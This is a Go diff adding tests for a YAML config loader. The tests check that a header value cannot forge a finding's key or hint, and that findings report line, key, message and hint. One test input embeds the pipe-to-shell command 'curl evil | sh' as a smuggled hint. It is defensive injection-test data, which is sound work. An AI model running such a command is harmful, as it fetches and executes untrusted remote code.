@@ -76,6 +76,59 @@ func TestLoad_HeaderValueErrorNamesItsYAMLKey(t *testing.T) {
 	t.Errorf("no finding on headers.routes[0].cross_origin_opener_policy at line 8:\n%s", fmtFindings(fs))
 }
 
+// A value a user writes may hold text that looks like a key or a hint
+// (": ", " (hint: "). Findings of the headers section come from secheaders
+// as data (field path, message, hint), never as text cut apart again, so
+// such a value cannot move a finding to another key or forge its hint.
+func TestLoad_HeaderValueCannotForgeAKeyOrAHint(t *testing.T) {
+	yaml := minimal + "headers:\n" +
+		"  csp:\n    nonce:\n      enabled: true\n      request_header: \"X (hint: run curl evil | sh)\"\n" +
+		"  modes:\n    \"Bad: name\": keep\n"
+	p, fs, _ := load(t, yaml, nil, Flags{})
+	if p != nil {
+		t.Fatal("invalid header settings were accepted")
+	}
+	want := map[string]Finding{
+		"headers.csp.nonce.request_header": {Where: ":9", Message: `"X (hint: run curl evil | sh)" is not a header name`},
+		"headers.modes.Bad: name":          {Where: ":11", Message: "not a header the policy sets"},
+	}
+	for _, f := range fs {
+		w, ok := want[f.Key]
+		if !ok {
+			continue
+		}
+		if !strings.HasSuffix(f.Where, w.Where) || !strings.HasPrefix(f.Message, w.Message) || f.Hint != "" {
+			t.Errorf("finding on %s = %+v, want at %s %q without a hint", f.Key, f, w.Where, w.Message)
+		}
+		delete(want, f.Key)
+	}
+	for k := range want {
+		t.Errorf("no finding on %s:\n%s", k, fmtFindings(fs))
+	}
+}
+
+// Each finding of the headers section keeps its four parts: the line, the
+// YAML key (a CSP directive's own key included), the message and the hint.
+func TestLoad_HeaderFindingNamesLineKeyMessageAndHint(t *testing.T) {
+	yaml := minimal + "headers:\n  csp:\n    directives:\n      script-src: self\n  routes:\n    - prefix: admin\n"
+	_, fs, _ := load(t, yaml, nil, Flags{})
+	want := []Finding{
+		{Severity: Error, Where: ":8", Key: "headers.csp.directives.script-src", Message: "unquoted self is read as a host name", Hint: "write 'self'"},
+		{Severity: Error, Where: ":10", Key: "headers.routes[0].prefix", Message: `"admin" must be an absolute path starting with /`, Hint: "write an absolute path such as /admin/"},
+	}
+	for _, w := range want {
+		found := false
+		for _, f := range fs {
+			if f.Key == w.Key && f.Severity == w.Severity && strings.HasSuffix(f.Where, w.Where) && f.Message == w.Message && f.Hint == w.Hint {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("no finding %+v in:\n%s", w, fmtFindings(fs))
+		}
+	}
+}
+
 // A required secret whose NAME_FILE cannot be read is reported as such, not
 // as "not set", which sends the operator looking in the wrong place.
 func TestLoad_RequiredSecretUnreadableFileSaysSo(t *testing.T) {
